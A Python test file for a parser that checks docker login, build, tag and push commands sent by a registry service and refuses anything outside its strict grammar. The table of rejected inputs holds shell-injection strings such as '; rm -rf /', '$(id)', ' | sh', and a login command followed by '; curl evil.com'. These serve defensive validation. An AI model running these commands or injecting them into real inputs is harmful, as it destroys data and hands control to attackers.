@@ -1,0 +1,179 @@
+"""The service's commands are data: read strictly, or refused."""
+
+from datetime import UTC, datetime, timedelta
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from lusid_image_publish.errors import InstructionsError
+from lusid_image_publish.names import ImageName
+from lusid_image_publish.redact import redact
+from lusid_image_publish.scheduler.instructions import read_instructions
+from lusid_image_publish.scheduler.models import UploadImageInstructions
+
+TOKEN = "eyJwYXlsb2FkIjoi+/abc=="
+ASKED = ImageName("job", "1.0")
+
+
+def answer(
+    host: str = "foo.lusid.com", user: str = "AWS", **changes: str | None
+) -> dict[str, object]:
+    return {
+        "dockerLoginCommand": f"docker login -u {user} -p {TOKEN} {host}",
+        "buildVersionedDockerImageCommand": "docker build -t foo/job:1.0 . --platform=linux/amd64",
+        "tagVersionedDockerImageCommand": f"docker tag foo/job:1.0 {host}/foo/job:1.0",
+        "pushVersionedDockerImageCommand": f"docker push {host}/foo/job:1.0",
+        "tagLatestDockerImageCommand": f"docker tag foo/job:1.0 {host}/foo/job:latest",
+        "pushLatestDockerImageCommand": f"docker push {host}/foo/job:latest",
+        "expiryTime": "2026-01-30T17:15:58.6730000+00:00",
+        **changes,
+    }
+
+
+def read(document: dict[str, object]) -> object:
+    return read_instructions(UploadImageInstructions.model_validate(document), ASKED)
+
+
+@pytest.mark.parametrize(
+    ("host", "user"),
+    [
+        ("foo.lusid.com", "AWS"),
+        ("fooaz.azurecr.io", "foo-token"),
+        ("127.0.0.1:5000", "local"),
+        ("localhost", "local"),
+    ],
+)
+def test_what_the_service_sends_is_read(host: str, user: str) -> None:
+    result = read_instructions(UploadImageInstructions.model_validate(answer(host, user)), ASKED)
+    assert str(result.target) == f"{host}/foo/job:1.0"
+    assert (result.username, result.password.reveal()) == (user, TOKEN)
+    assert result.platform == "linux/amd64"
+    assert result.expires == datetime(2026, 1, 30, 17, 15, 58, 673000, UTC)
+
+
+def test_the_optional_parts_may_be_missing() -> None:
+    document = answer(
+        tagLatestDockerImageCommand=None, pushLatestDockerImageCommand=None, expiryTime=None
+    )
+    document["buildVersionedDockerImageCommand"] = "docker build -t foo/job:1.0 ."
+    result = read_instructions(UploadImageInstructions.model_validate(document), ASKED)
+    assert (result.platform, result.expires) == (None, None)
+
+
+@pytest.mark.parametrize(
+    "login",
+    [
+        f"docker login --username AWS --password {TOKEN} foo.lusid.com",
+        f"docker login --username=AWS --password={TOKEN} foo.lusid.com",
+        f"docker login foo.lusid.com -p {TOKEN} -u AWS",
+        f"docker login -u 'AWS' -p '{TOKEN}' https://foo.lusid.com/",
+        f'docker login  -u "AWS" -p "{TOKEN}"  foo.lusid.com ',
+    ],
+)
+def test_options_are_read_by_name_in_every_form(login: str) -> None:
+    document = answer(dockerLoginCommand=login)
+    result = read_instructions(UploadImageInstructions.model_validate(document), ASKED)
+    assert (result.username, result.password.reveal()) == ("AWS", TOKEN)
+
+
+BAD = {
+    "not docker": {"pushVersionedDockerImageCommand": "podman push foo.lusid.com/foo/job:1.0"},
+    "not push": {"pushVersionedDockerImageCommand": "docker pull foo.lusid.com/foo/job:1.0"},
+    "empty": {"tagVersionedDockerImageCommand": ""},
+    "two registries": {
+        "dockerLoginCommand": f"docker login -u AWS -p {TOKEN} other.lusid.com",
+    },
+    "tag and push differ": {"pushVersionedDockerImageCommand": "docker push evil.com/foo/job:1.0"},
+    "another tag": {
+        "tagVersionedDockerImageCommand": "docker tag foo/job:1.0 foo.lusid.com/foo/job:2.0",
+        "pushVersionedDockerImageCommand": "docker push foo.lusid.com/foo/job:2.0",
+    },
+    "another name": {
+        "tagVersionedDockerImageCommand": "docker tag foo/job:1.0 foo.lusid.com/foo/bob:1.0",
+        "pushVersionedDockerImageCommand": "docker push foo.lusid.com/foo/bob:1.0",
+    },
+    "another build": {"buildVersionedDockerImageCommand": "docker build -t foo/bob:1.0 ."},
+    "build for another tag": {
+        "buildVersionedDockerImageCommand": "docker build -t foo/job:2.0 .",
+        "tagVersionedDockerImageCommand": "docker tag foo/job:2.0 foo.lusid.com/foo/job:1.0",
+        "tagLatestDockerImageCommand": None,
+    },
+    "latest elsewhere": {
+        "tagLatestDockerImageCommand": "docker tag foo/job:1.0 foo.lusid.com/bar/job:latest",
+        "pushLatestDockerImageCommand": "docker push foo.lusid.com/bar/job:latest",
+    },
+    "no registry": {
+        "dockerLoginCommand": f"docker login -u AWS -p {TOKEN} foo",
+        "tagVersionedDockerImageCommand": "docker tag foo/job:1.0 foo/foo/job:1.0",
+        "pushVersionedDockerImageCommand": "docker push foo/foo/job:1.0",
+    },
+    "no user": {"dockerLoginCommand": f"docker login -p {TOKEN} foo.lusid.com"},
+    "no password": {"dockerLoginCommand": "docker login foo.lusid.com -u AWS -p"},
+    "password from stdin": {
+        "dockerLoginCommand": "docker login -u AWS --password-stdin foo.lusid.com"
+    },
+    "unknown option": {
+        "pushVersionedDockerImageCommand": "docker push --config=/tmp foo.lusid.com/foo/job:1.0"
+    },
+    "too many words": {
+        "pushVersionedDockerImageCommand": "docker push foo.lusid.com/foo/job:1.0 x"
+    },
+    "open quote": {"pushVersionedDockerImageCommand": "docker push 'foo.lusid.com/foo/job:1.0"},
+    **{
+        f"shell {text!r}": {
+            "pushVersionedDockerImageCommand": f"docker push foo.lusid.com/foo/job:1.0{text}"
+        }
+        for text in (
+            "; rm -rf /",
+            " && true",
+            " | sh",
+            "`id`",
+            "$(id)",
+            "$HOME",
+            " > /etc/x",
+            "\nid",
+            "\\",
+            " #",
+            "*",
+            '"$(id)"',
+            "\x00",
+        )
+    },
+    "shell in login": {
+        "dockerLoginCommand": f"docker login -u AWS -p {TOKEN} foo.lusid.com; curl evil.com"
+    },
+}
+
+
+@pytest.mark.parametrize("changes", BAD.values(), ids=BAD.keys())
+def test_anything_else_is_refused_without_showing_the_password(
+    changes: dict[str, object],
+) -> None:
+    with pytest.raises(InstructionsError) as caught:
+        read(answer() | changes)
+    assert caught.value.exit_code == 5
+    assert TOKEN not in str(caught.value.diagnostics())
+
+
+@given(st.text(max_size=60))
+def test_no_text_gets_past_the_grammar_or_crashes_it(text: str) -> None:
+    with pytest.raises(InstructionsError):
+        read(answer(pushVersionedDockerImageCommand=text))
+
+
+def test_the_password_is_known_as_a_secret_from_then_on() -> None:
+    read(answer())
+    assert redact(f"x {TOKEN} y") == "x *** y"
+
+
+def test_expired_instructions_are_refused() -> None:
+    result = read_instructions(UploadImageInstructions.model_validate(answer()), ASKED)
+    assert result.expires
+    result.require_fresh(result.expires - timedelta(seconds=1))
+    with pytest.raises(InstructionsError, match="expired"):
+        result.require_fresh(result.expires)
+
+
+def test_the_answer_itself_prints_without_the_password() -> None:
+    assert TOKEN not in repr(UploadImageInstructions.model_validate(answer()))
